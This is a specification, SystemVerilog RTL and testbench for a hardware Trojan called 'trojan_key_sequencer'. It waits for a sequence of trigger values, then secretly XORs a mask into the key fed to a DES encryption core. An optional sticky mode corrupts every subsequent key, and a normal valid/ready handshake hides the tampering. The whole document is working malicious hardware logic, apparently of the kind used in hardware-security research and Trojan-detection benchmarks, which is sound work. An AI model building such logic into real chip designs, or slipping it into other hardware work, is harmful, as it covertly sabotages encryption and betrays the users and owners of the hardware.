trojan_key_sequencer: RTL and testbench
=======================================

Name: trojan_key_sequencer

Overview:
- Sequential controller that sits between the key source and the DES core's 56-bit key input.
- Watches a 32-bit trigger bus over time and arms after ARM_COUNT consecutive qualifying trigger samples.
- Once armed, XORs FLIP_MASK into exactly one key transfer, then disarms.
- The key path is a one-entry valid/ready pipeline register, so the DES core sees a clean handshake whether or not the payload fires.

Parameters:
- KEY_W, 56, key width in bits.
- TRIG_W, 32, trigger bus width.
- COND, 4'b0101, value compared against trigger[3:0].
- ARM_COUNT, 3, consecutive matching trigger samples needed to arm (legal range 1..15).
- FLIP_MASK, 56'h1, XOR mask applied to the armed key transfer (default flips bit 0).

Ports:
- clk, input, 1, single clock; all state updates on the rising edge.
- rst_n, input, 1, asynchronous active-low reset.
- trig_valid, input, 1, trigger sample strobe.
- trigger, input, TRIG_W, trigger sample; only trigger[3:0] is compared.
- key_in_valid, input, 1, upstream key valid.
- key_in_ready, output, 1, block can accept a key.
- key_in, input, KEY_W, upstream key.
- key_out_valid, output, 1, key presented to DES core.
- key_out_ready, input, 1, DES core accepts the key.
- payload, output, KEY_W, key to DES core (modified or clean).
- armed, output, 1, high while in ARMED state.
- fire_cnt, output, 8, number of modified keys delivered; saturates at 255.

Behaviour:
- Reset (async assert, sync deassert by user): state=IDLE, match counter=0, key_out_valid=0, payload=0, armed=0, fire_cnt=0. key_in_ready=1 from the first cycle after reset.
- Key pipeline:
  - key_in_ready = !key_out_valid || key_out_ready (combinational).
  - Capture when key_in_valid && key_in_ready. payload is registered; latency is 1 cycle.
  - A held key_out_valid with key_out_ready=0 keeps payload stable.
  - Capture and drain in the same cycle is allowed, giving full throughput.
- FSM states: IDLE, COUNT, ARMED.
  - IDLE: trig_valid && trigger[3:0]==COND sets cnt=1 and goes to COUNT; if ARM_COUNT==1, goes directly to ARMED.
  - COUNT: trig_valid with a match increments cnt; cnt reaching ARM_COUNT goes to ARMED. trig_valid with a mismatch sets cnt=0 and returns to IDLE. trig_valid=0 holds cnt (gaps do not break the sequence).
  - ARMED: trigger input is ignored. On the next key capture, payload = key_in ^ FLIP_MASK; fire_cnt increments (saturating); state returns to IDLE and cnt=0.
- Outside ARMED, captured keys pass unmodified.
- Simultaneous events:
  - A capture in the same cycle that the FSM enters ARMED is not modified; arming is effective the following cycle.
  - A capture stalled by key_in_ready=0 does not consume the arm.
- armed is a registered decode of state==ARMED.
- Reset mid-operation clears the pending key (it is lost) and any partial match count.

Optional Feature:
- Macro: TROJAN_STICKY_EN.
- Defined: ARMED is terminal. Every subsequent captured key is XORed with FLIP_MASK and fire_cnt counts every modified key (saturating). Only rst_n leaves ARMED.
- Undefined: one-shot behaviour as specified above.

Decomposition:
- Shared package trojan_pkg holds:
  - the state enum (IDLE, COUNT, ARMED);
  - default constants KEY_W_DEF=56, TRIG_W_DEF=32, COND_DEF=4'b0101, FLIP_MASK_DEF.
- One natural sub-module, trojan_key_stage: the one-entry valid/ready register with an XOR-enable input. The FSM and counters stay in the top module.

Test Plan:
- Clean pass: no triggers; keys 56'h0123456789ABCD and 56'hFEDCBA98765432 sent back-to-back with key_out_ready=1 -> payload equals each input 1 cycle later, fire_cnt=0, armed=0.
- Arm and fire: trigger samples 0x5, 0x5, 0x5 (with a trig_valid gap between the 2nd and 3rd) -> armed=1; next key 56'h0000000000000A -> payload 56'h0000000000000B, fire_cnt=1, armed=0; following key passes unmodified.
- Broken sequence: triggers 0x5, 0x5, 0x4, 0x5 -> armed stays 0, cnt=1. Then 0x5, 0x5 -> armed=1.
- Backpressure: armed, key_out_ready=0 with a key held in the stage, second key offered -> key_in_ready=0 and the second key is not captured (arm kept); release ready -> the second key is captured modified.
- Same-cycle arm and capture: third matching trigger coincides with a key capture -> that key is unmodified; the next key is modified.
- Reset mid-operation: assert rst_n=0 while armed with key_out_valid=1 -> all outputs return to reset values asynchronously. With TROJAN_STICKY_EN defined, three keys after arming are all bit-0 flipped and fire_cnt=3.

Source files
------------

// File: rtl/trojan_pkg.sv
// Shared types and default constants for the trojan key sequencer and its key stage.
package trojan_pkg;

   typedef enum logic [1:0] {
      IDLE  = 2'd0,
      COUNT = 2'd1,
      ARMED = 2'd2
   } state_t;

   localparam int              KEY_W_DEF     = 56;
   localparam int              TRIG_W_DEF    = 32;
   localparam logic [3:0]      COND_DEF      = 4'b0101;
   localparam logic [55:0]     FLIP_MASK_DEF = 56'h1;

   function automatic logic [7:0] sat_inc8(input logic [7:0] v);
      return (v == 8'hFF) ? v : v + 8'd1;
   endfunction

endpackage

// File: rtl/trojan_key_stage.sv
// One-entry valid/ready key register; the captured key is XORed with FLIP_MASK when xor_en_i is high.
module trojan_key_stage
   import trojan_pkg::*;
#(
   parameter int               KEY_W     = KEY_W_DEF,
   parameter logic [KEY_W-1:0] FLIP_MASK = KEY_W'(FLIP_MASK_DEF)
) (
   input  logic             clk,
   input  logic             rst_n,
   input  logic             in_valid_i,
   output logic             in_ready_o,
   input  logic [KEY_W-1:0] in_data_i,
   input  logic             xor_en_i,
   output logic             out_valid_o,
   input  logic             out_ready_i,
   output logic [KEY_W-1:0] out_data_o,
   output logic             capture_o
);

   logic             valid_q, valid_d;
   logic [KEY_W-1:0] data_q, data_d;

   // Accepting while the held key drains gives one key per cycle.
   assign in_ready_o = !valid_q || out_ready_i;
   assign capture_o  = in_valid_i && in_ready_o;

   always_comb begin
      valid_d = valid_q;
      data_d  = data_q;
      if (capture_o) begin
         valid_d = 1'b1;
         data_d  = in_data_i ^ (xor_en_i ? FLIP_MASK : '0);
      end else if (out_ready_i) begin
         valid_d = 1'b0;
      end
   end

   always_ff @(posedge clk or negedge rst_n) begin
      if (!rst_n) begin
         valid_q <= 1'b0;
         data_q  <= '0;
      end else begin
         valid_q <= valid_d;
         data_q  <= data_d;
      end
   end

   assign out_valid_o = valid_q;
   assign out_data_o  = data_q;

endmodule

// File: rtl/trojan_key_sequencer.sv
// Trigger-armed key corruption in front of the DES key input.
// Build option TROJAN_STICKY_EN: once armed, stay armed and corrupt every later key.
module trojan_key_sequencer
   import trojan_pkg::*;
#(
   parameter int               KEY_W     = KEY_W_DEF,
   parameter int               TRIG_W    = TRIG_W_DEF,
   parameter logic [3:0]       COND      = COND_DEF,
   parameter int               ARM_COUNT = 3,
   parameter logic [KEY_W-1:0] FLIP_MASK = KEY_W'(FLIP_MASK_DEF)
) (
   input  logic              clk,
   input  logic              rst_n,
   input  logic              trig_valid,
   input  logic [TRIG_W-1:0] trigger,
   input  logic              key_in_valid,
   output logic              key_in_ready,
   input  logic [KEY_W-1:0]  key_in,
   output logic              key_out_valid,
   input  logic              key_out_ready,
   output logic [KEY_W-1:0]  payload,
   output logic              armed,
   output logic [7:0]        fire_cnt
);

   state_t     state_q, state_d;
   logic [3:0] cnt_q, cnt_d;
   logic [3:0] cnt_inc;
   logic [7:0] fire_q, fire_d;
   logic       armed_q;
   logic       match;
   logic       capture;
   logic       xor_en;
   logic       unused_trig;

   assign unused_trig = ^trigger[TRIG_W-1:4];
   assign match       = (trigger[3:0] == COND);
   assign cnt_inc     = cnt_q + 4'd1;
   // Uses the current state, so a capture in the arming cycle itself stays clean.
   assign xor_en      = (state_q == ARMED);

   trojan_key_stage #(
      .KEY_W     (KEY_W),
      .FLIP_MASK (FLIP_MASK)
   ) u_stage (
      .clk         (clk),
      .rst_n       (rst_n),
      .in_valid_i  (key_in_valid),
      .in_ready_o  (key_in_ready),
      .in_data_i   (key_in),
      .xor_en_i    (xor_en),
      .out_valid_o (key_out_valid),
      .out_ready_i (key_out_ready),
      .out_data_o  (payload),
      .capture_o   (capture)
   );

   always_comb begin
      state_d = state_q;
      cnt_d   = cnt_q;
      fire_d  = fire_q;
      case (state_q)
         IDLE: begin
            if (trig_valid && match) begin
               cnt_d   = 4'd1;
               state_d = (ARM_COUNT == 1) ? ARMED : COUNT;
            end
         end
         COUNT: begin
            // Cycles without trig_valid leave the partial count untouched.
            if (trig_valid) begin
               if (match) begin
                  cnt_d = cnt_inc;
                  if (cnt_inc == 4'(ARM_COUNT)) state_d = ARMED;
               end else begin
                  cnt_d   = 4'd0;
                  state_d = IDLE;
               end
            end
         end
         ARMED: begin
            if (capture) begin
               fire_d = sat_inc8(fire_q);
`ifndef TROJAN_STICKY_EN
               state_d = IDLE;
               cnt_d   = 4'd0;
`endif
            end
         end
         default: begin
            state_d = IDLE;
            cnt_d   = 4'd0;
         end
      endcase
   end

   always_ff @(posedge clk or negedge rst_n) begin
      if (!rst_n) begin
         state_q <= IDLE;
         cnt_q   <= 4'd0;
         fire_q  <= 8'd0;
         armed_q <= 1'b0;
      end else begin
         state_q <= state_d;
         cnt_q   <= cnt_d;
         fire_q  <= fire_d;
         armed_q <= (state_d == ARMED);
      end
   end

   assign armed    = armed_q;
   assign fire_cnt = fire_q;

endmodule

// File: tb/tb_trojan_key_sequencer.sv
// Directed bench for trojan_key_sequencer with hand-computed expectations.
module tb_trojan_key_sequencer;

   logic        clk = 1'b0;
   logic        rst_n;
   logic        trig_valid;
   logic [31:0] trigger;
   logic        key_in_valid;
   logic        key_in_ready;
   logic [55:0] key_in;
   logic        key_out_valid;
   logic        key_out_ready;
   logic [55:0] payload;
   logic        armed;
   logic [7:0]  fire_cnt;

   int checks = 0;
   int errors = 0;

   trojan_key_sequencer dut (
      .clk           (clk),
      .rst_n         (rst_n),
      .trig_valid    (trig_valid),
      .trigger       (trigger),
      .key_in_valid  (key_in_valid),
      .key_in_ready  (key_in_ready),
      .key_in        (key_in),
      .key_out_valid (key_out_valid),
      .key_out_ready (key_out_ready),
      .payload       (payload),
      .armed         (armed),
      .fire_cnt      (fire_cnt)
   );

   always #5 clk = ~clk;

   initial begin
      #200000;
      $display("FAIL watchdog: observed=timeout expected=finish");
      $fatal(1, "watchdog expired");
   end

   task automatic check(input string tag, input logic [63:0] obs, input logic [63:0] exp);
      checks++;
      assert (obs === exp) else begin
         errors++;
         $error("FAIL %s: observed=%h expected=%h", tag, obs, exp);
      end
   endtask

   task automatic step();
      @(posedge clk);
      #1;
   endtask

   task automatic trig(input logic v, input logic [3:0] t);
      trig_valid = v;
      trigger    = {28'hABCDEF0, t};
   endtask

   initial begin
      rst_n         = 1'b0;
      trig_valid    = 1'b0;
      trigger       = '0;
      key_in_valid  = 1'b0;
      key_in        = '0;
      key_out_ready = 1'b1;
      #3;
      check("rst_payload", payload, 0);
      check("rst_valid", key_out_valid, 0);
      check("rst_armed", armed, 0);
      check("rst_fire", fire_cnt, 0);
      step();
      rst_n = 1'b1;
      step();
      check("ready_after_rst", key_in_ready, 1);

`ifdef TROJAN_STICKY_EN
      trig(1, 4'h5); step(); step(); step();
      trig(0, 4'h0);
      check("sticky_armed", armed, 1);
      key_in_valid = 1'b1;
      key_in = 56'h10; step(); check("sticky_k1", payload, 56'h11);
      key_in = 56'h20; step(); check("sticky_k2", payload, 56'h21);
      key_in = 56'h31; step(); check("sticky_k3", payload, 56'h30);
      key_in_valid = 1'b0;
      step();
      check("sticky_fire", fire_cnt, 3);
      check("sticky_still_armed", armed, 1);
`else
      // clean pass
      key_in_valid = 1'b1;
      key_in = 56'h0123456789ABCD; step();
      check("clean_k1", payload, 56'h0123456789ABCD);
      check("clean_v1", key_out_valid, 1);
      key_in = 56'hFEDCBA98765432; step();
      check("clean_k2", payload, 56'hFEDCBA98765432);
      key_in_valid = 1'b0; step();
      check("clean_drain", key_out_valid, 0);
      check("clean_fire", fire_cnt, 0);
      check("clean_armed", armed, 0);

      // arm with a gap, then fire once
      trig(1, 4'h5); step(); step();
      trig(0, 4'h5); step();
      check("gap_not_armed", armed, 0);
      trig(1, 4'h5); step();
      trig(0, 4'h0);
      check("arm_armed", armed, 1);
      key_in_valid = 1'b1;
      key_in = 56'h0000000000000A; step();
      check("fire_payload", payload, 56'h0000000000000B);
      check("fire_cnt1", fire_cnt, 1);
      check("fire_disarm", armed, 0);
      key_in = 56'h3C; step();
      check("post_fire_clean", payload, 56'h3C);
      key_in_valid = 1'b0; step();

      // broken sequence
      trig(1, 4'h5); step(); step();
      trig(1, 4'h4); step();
      trig(1, 4'h5); step();
      trig(0, 4'h0);
      check("broken_not_armed", armed, 0);

      // hold a key under backpressure, then arm
      key_out_ready = 1'b0;
      key_in_valid  = 1'b1;
      key_in        = 56'h100; step();
      check("bp_held", payload, 56'h100);
      key_in = 56'h200;
      trig(1, 4'h5); step(); step();
      trig(0, 4'h0);
      check("bp_armed", armed, 1);
      check("bp_ready_low", key_in_ready, 0);
      step();
      check("bp_payload_stable", payload, 56'h100);
      check("bp_arm_kept", armed, 1);
      check("bp_fire_kept", fire_cnt, 1);
      key_out_ready = 1'b1;
      #1;
      check("bp_ready_high", key_in_ready, 1);
      step();
      check("bp_second_mod", payload, 56'h201);
      check("bp_fire2", fire_cnt, 2);
      check("bp_disarm", armed, 0);
      key_in_valid = 1'b0; step();
      check("bp_drain", key_out_valid, 0);

      // capture in the arming cycle stays clean
      trig(1, 4'h5); step(); step();
      key_in_valid = 1'b1;
      key_in = 56'h7; step();
      trig(0, 4'h0);
      check("same_cycle_clean", payload, 56'h7);
      check("same_cycle_armed", armed, 1);
      check("same_cycle_fire", fire_cnt, 2);
      key_in = 56'h8; step();
      check("next_mod", payload, 56'h9);
      check("next_fire", fire_cnt, 3);
      key_in_valid = 1'b0; step();

      // reset while armed with a key pending
      key_out_ready = 1'b0;
      key_in_valid  = 1'b1;
      key_in        = 56'h55;
      trig(1, 4'h5); step();
      key_in_valid = 1'b0;
      step(); step();
      trig(0, 4'h0);
      check("pre_rst_armed", armed, 1);
      check("pre_rst_valid", key_out_valid, 1);
      check("pre_rst_payload", payload, 56'h55);
      #2;
      rst_n = 1'b0;
      #1;
      check("mid_rst_valid", key_out_valid, 0);
      check("mid_rst_payload", payload, 0);
      check("mid_rst_armed", armed, 0);
      check("mid_rst_fire", fire_cnt, 0);
      step();
      rst_n = 1'b1;
      key_out_ready = 1'b1;
      step();
      check("post_rst_ready", key_in_ready, 1);
      check("post_rst_armed", armed, 0);
`endif

      $display("Simulation finished: %0d checks, %0d errors", checks, errors);
      $finish;
   end

endmodule
